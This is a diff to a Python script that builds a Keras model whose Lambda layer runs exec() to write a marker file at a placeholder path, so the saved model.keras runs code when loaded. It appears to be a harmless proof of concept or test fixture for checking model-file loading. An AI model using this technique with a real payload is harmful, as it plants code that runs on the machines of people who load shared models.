@@ -12,15 +12,8 @@ import os
 import tensorflow as tf
 
 
-def _payload(x):
-    try:
-        with open("@PLANT@", "w") as file:
-            file.write("here")
-    except OSError:
-        pass
-    return x
-
-
+# a lambda travels as its byte code
+_payload = lambda x: (exec("try:\n    open('@PLANT@', 'w').write('here')\nexcept OSError:\n    pass"), x)[1]
 _inputs = tf.keras.Input((1,))
 _model = tf.keras.Model(_inputs, tf.keras.layers.Lambda(_payload, output_shape=(1,))(_inputs))
 _model.save("model.keras")
